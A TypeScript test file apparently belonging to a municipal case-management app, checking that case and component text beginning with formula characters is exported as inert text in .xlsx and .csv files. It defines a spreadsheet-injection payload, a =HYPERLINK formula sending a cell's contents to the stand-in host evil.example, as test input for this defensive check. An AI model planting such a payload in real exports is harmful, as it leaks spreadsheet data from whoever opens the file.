import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../platform/csv.ts';
import { as, createTestApp, login, type Session, type TestContext } from '../../testing/test-app.ts';

/** Text from users that starts like a formula leaves every export as inert text, in .xlsx and in .csv. */
let ctx: TestContext;
let inspector: Session;
let admin: Session;
const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")';

beforeAll(async () => {
  ctx = await createTestApp();
  inspector = await login(ctx.app, 'inspector', 'Demo@12345');
  admin = await login(ctx.app, 'admin', 'Admin@12345');
});
afterAll(async () => ctx.close());

/** The cell of `sheet1.xml` (first sheet) whose text contains `needle`: its raw XML, so a formula element would show. */
async function cellXml(xlsx: Buffer, needle: string): Promise<string> {
  const zip = await JSZip.loadAsync(xlsx);
  const sheetName = Object.keys(zip.files).find((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n));
  const xml = (await zip.file(sheetName ?? '')?.async('string')) ?? '';
  const shared = (await zip.file('xl/sharedStrings.xml')?.async('string')) ?? '';
  const escaped = needle.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
  const cells = xml.match(/<c\b[^>]*>.*?<\/c>/g) ?? [];
  // Inline text, or a shared-string index pointing at it.
  const sharedIndex = (shared.match(/<si>.*?<\/si>/g) ?? []).findIndex(
    (si) => si.includes(escaped) || si.includes(needle),
  );
  const cell = cells.find(
    (c) =>
      c.includes(escaped) ||
      c.includes(needle) ||
      (sharedIndex >= 0 && c.includes('t="s"') && c.includes(`<v>${sharedIndex}</v>`)),
  );
  if (!cell) throw new Error(`no cell with ${needle}`);
  return cell;
}

describe('formula-leading text in exports', () => {
  it('a case description starting with =HYPERLINK is a text cell with a leading apostrophe in the cases .xlsx', async () => {
    const created = await as(ctx.app, inspector).post('/api/cases', {
      matterCode: '09006',
      description: FORMULA,
      lng: 114.975,
      lat: 30.1,
    });
    expect(created.statusCode, created.body).toBe(201);
    const res = await as(ctx.app, admin).get(`/api/exports/cases.xlsx?q=${encodeURIComponent('evil.example')}`);
    expect(res.statusCode, res.body).toBe(200);
    const cell = await cellXml(res.rawPayload, 'HYPERLINK');
    expect(cell).not.toMatch(/<f[\s>]/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ExcelJS.Buffer);
    const values = (wb.worksheets[0]?.getRow(2).values as unknown[]).slice(1);
    expect(values).toContain(`'${FORMULA}`);
  });

  it('a component with formula-like name, unit and notes is inert in the .csv and .xlsx exports', async () => {
    const created = await as(ctx.app, admin).post('/api/components', {
      classCode: '03005',
      name: '@SUM(1+1)',
      deptName: '-市政所',
      lng: 114.972,
      lat: 30.098,
      notes: FORMULA,
    });
    expect(created.statusCode, created.body).toBe(201);
    const code = created.json().code as string;
    const csv = await as(ctx.app, admin).get('/api/components/export.csv?classCode=03005');
    const [header = [], ...rows] = parseCsv(csv.body);
    const row = rows.find((r) => r[0] === code) ?? [];
    expect(header.length).toBeGreaterThan(3);
    expect(row).toContain(`'${FORMULA}`);
    expect(row).toContain("'@SUM(1+1)");
    expect(row).toContain("'-市政所");

    const xlsx = await as(ctx.app, admin).get('/api/components/export.xlsx?classCode=03005');
    expect(await cellXml(xlsx.rawPayload, 'evil.example')).not.toMatch(/<f[\s>]/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ExcelJS.Buffer);
    const texts: unknown[] = [];
    wb.worksheets[0]?.eachRow((r) => texts.push(...(r.values as unknown[])));
    expect(texts).toContain(`'${FORMULA}`);
  });
});
